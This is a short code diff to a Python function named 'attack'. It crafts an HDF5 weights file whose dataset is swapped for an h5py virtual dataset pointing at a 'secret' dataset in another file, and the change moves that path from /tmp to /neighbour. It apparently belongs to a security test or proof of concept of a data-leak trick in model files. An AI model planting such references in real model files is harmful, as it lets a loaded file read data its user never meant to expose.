@@ -14,7 +14,7 @@ def attack(path: Path) -> None:
         name = kernel(file)
         del file[name]
         layout = h5py.VirtualLayout((1, 1), "float32")
-        layout[:] = h5py.VirtualSource("/tmp/other.h5", "secret", (1, 1))
+        layout[:] = h5py.VirtualSource("/neighbour/other.h5", "secret", (1, 1))
         file.create_virtual_dataset(name, layout)
 
     weights(path, view)
